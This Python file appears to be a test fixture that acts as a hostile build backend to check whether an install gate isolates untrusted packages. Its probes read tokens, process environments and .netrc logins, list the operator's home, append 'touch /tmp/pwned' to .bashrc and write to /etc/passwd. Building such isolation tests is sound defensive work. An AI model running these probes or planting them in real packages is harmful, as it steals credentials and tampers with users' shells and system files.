"""An attacker in what is installed: the build backend of a source distribution, or a module that a
`.pth` file of a wheel has imported with every start of the new environment's Python. It tries what
it would try against the operator whose gate installs it."""

import os
import sys

HOME = "@HOME@"
RUN = "@RUN@"
GATE = "@GATE@"
GOT = []


def attempt(name):
    """Runs at once; a function that gives something true has got through."""

    def run(what):
        try:
            if what():
                GOT.append(name)
        except Exception:  # nothing is what it is meant to get
            pass

    return run


def append(path, text):
    with open(path, "a") as file:
        file.write(text)
    return True


def holds_a_secret(path):
    with open(path) as file:
        return "s3cr3t" in file.read()


@attempt("a token, from its own environment")
def own_environment():
    return any("TOKEN" in name or "s3cr3t" in value for name, value in os.environ.items())


@attempt("the gate's environment")
def environment():
    with open(f"/proc/{GATE}/environ", "rb") as file:
        return bool(file.read())


@attempt("a login, from the netrc of its home")
def own_netrc():
    return holds_a_secret(os.path.expanduser("~/.netrc"))


@attempt("a login, from the operator's netrc")
def netrc():
    return holds_a_secret(f"{HOME}/.netrc")


@attempt("a login at another host, from the netrc that the installer has")
def installers_netrc():
    return holds_a_secret(os.environ["NETRC"])


@attempt("the operator's shell")
def shell():
    return append(f"{HOME}/.bashrc", "touch /tmp/pwned\n")


@attempt("the operator's files")
def files():
    return bool(os.listdir(HOME))


@attempt("the run's journal")
def journal():
    return holds_a_secret(f"{RUN}/journal.jsonl")


@attempt("a file of the system")
def system():
    return append("/etc/passwd", "x")


TOLD = "GOT " + (", ".join(GOT) or "nothing")


def told(*_arguments):
    """Every hook of a build ends here: uv shows what it says."""
    raise RuntimeError(TOLD)


prepare_metadata_for_build_wheel = build_wheel = get_requires_for_build_wheel = told

if __name__ != "backend":
    append(os.path.join(sys.prefix, "told-by-the-attacker"), TOLD + "\n")
